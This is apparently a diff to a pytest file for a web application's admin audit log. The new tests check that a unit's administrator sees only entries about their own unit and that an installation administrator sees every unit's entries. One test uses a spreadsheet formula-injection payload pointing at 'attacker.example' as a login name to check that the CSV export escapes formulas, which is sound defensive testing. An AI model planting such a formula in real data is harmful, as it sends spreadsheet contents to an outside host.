@@ -1,5 +1,6 @@
-"""The administrators' audit log page: who may see it, its filters and pages, and the CSV
-export, which escapes formulas and is itself audited."""
+"""The administrators' audit log page: who may see it and which entries (a unit's
+administrator those about the unit, an installation administrator all), its filters and
+pages, and the CSV export, which escapes formulas and is itself audited."""
 
 from __future__ import annotations
 
@@ -7,6 +8,7 @@ import csv
 import datetime as dt
 import io
 import json
+import re
 from urllib.parse import urlencode
 
 import pytest
@@ -21,6 +23,7 @@ from tests.conftest import (
     Client,
     LoginAs,
     MakeRequest,
+    MakeUnit,
     MakeUser,
     PageClient,
     check_page,
@@ -127,7 +130,7 @@ def test_filters_that_do_not_fit_are_explained(
 
 
 def test_log_pages_newest_first(client_request: PageClient, login_as: LoginAs, db: Session) -> None:
-    login_as(Role.admin)
+    login_as(Role.installation_admin)  # the entries belong to no unit
     for n in range(120):
         audit.record(
             session=db, action=AuditAction.request_view, object_type="request", object_id=1000 + n
@@ -152,7 +155,7 @@ def test_export_is_csv_escapes_formulas_and_is_itself_audited(
 ) -> None:
     formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
     client.login(formula, "whatever password")
-    admin = login_as(Role.admin)
+    admin = login_as(Role.installation_admin)  # a failed login to no account is no unit's
 
     response = client.get("/admin/audit.csv", query_string={"action": "login"})
     assert response.status_code == 200
@@ -206,7 +209,7 @@ def test_the_export_has_the_details_as_json(client: Client, login_as: LoginAs, d
     audit.record(session=db, action=AuditAction.request_export, object_type="request", object_id=7,
                  details={"format": "JSON"})  # fmt: skip
     db.commit()
-    login_as(Role.admin)
+    login_as(Role.installation_admin)
     response = client.get("/admin/audit.csv", query_string={"action": "request.export"})
     [row] = list(csv.DictReader(io.StringIO(response.text)))
     assert json.loads(row["details"]) == {"format": "JSON"}
@@ -232,3 +235,63 @@ def test_the_log_names_requests_by_reference_and_users_by_name(
     assert f"Request {draft.reference}" in objects
     assert f"User {officer.name}" in objects
     assert f"request {draft.id}" not in objects
+
+
+def test_a_units_admin_reads_the_entries_about_their_unit_only(
+    client: Client,
+    client_request: PageClient,
+    login_as: LoginAs,
+    make_unit: MakeUnit,
+    make_user: MakeUser,
+    make_request: MakeRequest,
+    db: Session,
+) -> None:
+    """What the unit's users did, what was done to them and to the unit (whoever did it),
+    and failed logins to their accounts; not another unit's, nor the chain's head."""
+    lagos = make_unit(name="Economic Crime Unit, Lagos", code="LOS", state="NG")
+    doha_officer, lagos_officer = make_user(Role.officer), make_user(Role.officer, unit_=lagos)
+    chief = make_user(Role.installation_admin)  # of Doha, acting on Lagos
+    doha_request = make_request(doha_officer, title="Ransomware at a clinic")
+    lagos_request = make_request(lagos_officer, title="Romance fraud ring")
+    audit.record(session=db, action=AuditAction.user_password_reset, user=chief,
+                 unit_id=lagos.id, object_type="user", object_id=lagos_officer.id)  # fmt: skip
+    audit.record(session=db, action=AuditAction.user_update, user=chief,
+                 object_type="user", object_id=lagos_officer.id)  # fmt: skip
+    db.commit()
+    client.login(lagos_officer.email, "a wrong password")
+    admin = login_as(Role.admin, unit_=lagos)
+
+    page = client_request.get("/admin/audit")
+    shown = entries(page)
+    objects = {e["Object"] for e in shown}
+    assert f"Request {lagos_request.reference}" in objects
+    assert f"Request {doha_request.reference}" not in objects
+    assert f"User {doha_officer.name}" not in objects
+    by_chief = [e["Action"] for e in shown if e["User"] == f"{chief.name} <{chief.email}>"]
+    assert sorted(by_chief) == ["user.password_reset", "user.update"]
+    failed = [e for e in shown if e["Action"] == "login" and e["Outcome"] == "failure"]
+    assert [e["Object"] for e in failed] == [f"email {lagos_officer.email}"]
+    assert not [e for e in shown if e["User"] == f"{doha_officer.name} <{doha_officer.email}>"]
+    assert "Newest entry:" not in page.get_text()  # the installation's, not the unit's
+    # another unit's people cannot be looked up, and the export is the same selection
+    unknown = client.get("/admin/audit", query_string={"user": doha_officer.email})
+    assert unknown.status_code == 400
+    exported = client.get("/admin/audit.csv", query_string={"action": "request.create"})
+    assert [r["object_id"] for r in csv.DictReader(io.StringIO(exported.text))] == [
+        str(lagos_request.id)
+    ]
+    # the installation administrator reads every unit's entries, and the chain's head
+    assert client.post("/logout", data={"csrf_token": _token(client)}).status_code == 302
+    assert client.login(chief.email).status_code == 302
+    everything = client_request.get("/admin/audit?action=request.create")
+    assert {e["Object"] for e in entries(everything)} == {
+        f"Request {doha_request.reference}", f"Request {lagos_request.reference}"
+    }  # fmt: skip
+    assert "Newest entry:" in everything.get_text()
+    assert admin.unit_id == lagos.id
+
+
+def _token(client: Client) -> str:
+    found = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', client.get("/").text)
+    assert found
+    return found.group(1)
